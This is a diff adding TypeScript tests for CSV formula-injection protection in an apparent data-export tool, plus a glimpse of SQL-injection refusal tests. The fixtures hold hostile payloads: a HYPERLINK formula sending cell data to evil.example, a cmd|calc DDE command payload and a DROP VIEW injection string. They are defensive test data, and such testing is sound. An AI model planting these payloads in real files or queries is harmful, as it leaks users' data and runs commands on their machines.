@@ -116,6 +116,58 @@ describe('export formats', () => {
   });
 });
 
+describe('CSV cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
+  let hostile: string;
+
+  // Transfers of the lake whose token names and symbols came from the service as formulas, and a
+  // number column with a negative value.
+  beforeAll(async () => {
+    hostile = mkdtempSync(join(tmpdir(), 'cl-export-formulas-'));
+    mkdirSync(join(hostile, 'erc_transfers'));
+    const from = `(SELECT * FROM read_parquet('${join(lake, 'erc_transfers', '**', '*.parquet')}') ORDER BY tx_hash, log_index LIMIT 1)`;
+    const row = (name: string, symbol: string, logIndex: number) => `SELECT * REPLACE (${name} AS token_name, ${symbol} AS token_symbol, CAST(${logIndex} AS INTEGER) AS log_index) FROM ${from}`;
+    await duck(
+      `COPY (${row(`'=HYPERLINK("http://evil.example/?d="&A1,"claim")'`, `'@SUM(1+1)*cmd|'' /C calc''!A0'`, -5)} UNION ALL ${row(`chr(9) || '=1+1'`, `'-2+3'`, 7)} UNION ALL ${row(`chr(13) || '+1'`, `'USDC'`, -1)}) TO '${join(hostile, 'erc_transfers', 'x.parquet')}' (FORMAT parquet)`,
+    );
+  });
+
+  const cells = (file: string) => duck(`SELECT token_name, token_symbol, log_index FROM read_csv('${file}', header = true, all_varchar = true) ORDER BY log_index::INTEGER`);
+
+  it('text cells that begin with =, +, -, @, tab or CR get a leading quote; numbers stay numbers', async () => {
+    const file = join(out, 'formulas.csv');
+    const r = await exportTable({ lake: hostile, table: 'erc_transfers', to: file, columns: ['token_name', 'token_symbol', 'log_index', 'value'] });
+    expect(r.rows).toBe(3);
+    expect(await cells(file)).toEqual([
+      { token_name: `'=HYPERLINK("http://evil.example/?d="&A1,"claim")`, token_symbol: `'@SUM(1+1)*cmd|' /C calc'!A0`, log_index: '-5' },
+      { token_name: "'\r+1", token_symbol: 'USDC', log_index: '-1' },
+      { token_name: "'\t=1+1", token_symbol: "'-2+3", log_index: '7' },
+    ]);
+    // Unquoted -5: a number to whatever reads the file.
+    expect(readFileSync(file, 'utf8')).toMatch(/,-5,\d+\n/);
+  });
+
+  it('--csv-formulas writes them as they are; other formats never change a cell', async () => {
+    const file = join(out, 'formulas-raw.csv');
+    await exportTable({ lake: hostile, table: 'erc_transfers', to: file, columns: ['token_name', 'token_symbol', 'log_index'], csvFormulas: true });
+    expect((await cells(file)).map((c) => c.token_name)).toEqual(['=HYPERLINK("http://evil.example/?d="&A1,"claim")', '\r+1', '\t=1+1']);
+    const nd = join(out, 'formulas.ndjson');
+    await exportTable({ lake: hostile, table: 'erc_transfers', to: nd, columns: ['token_name'] });
+    expect(readFileSync(nd, 'utf8')).toContain('"=HYPERLINK(');
+  });
+
+  it('the CLI: quoted by default, raw with --csv-formulas, which only a CSV takes', () => {
+    const a = join(out, 'cli-formulas.csv');
+    expect(cli(['export', 'erc_transfers', '--lake', hostile, '--to', a, '--columns', 'token_name']).code).toBe(0);
+    expect(readFileSync(a, 'utf8')).toContain(`"'=HYPERLINK(`);
+    const b = join(out, 'cli-formulas-raw.csv');
+    expect(cli(['export', 'erc_transfers', '--lake', hostile, '--to', b, '--columns', 'token_name', '--csv-formulas']).code).toBe(0);
+    expect(readFileSync(b, 'utf8')).toContain(`"=HYPERLINK(`);
+    const c = join(out, 'cli-formulas.parquet');
+    expect(cli(['export', 'erc_transfers', '--lake', hostile, '--to', c, '--csv-formulas'])).toMatchObject({ code: 2, stderr: expect.stringContaining('--csv-formulas: only with CSV') });
+    expect(existsSync(c)).toBe(false);
+  });
+});
+
 describe('the predicate is a filter and nothing else', () => {
   const refused: Array<[string, RegExp]> = [
     ['1=1; DROP VIEW erc_transfers', /not a predicate DuckDB can read|more than one statement/],
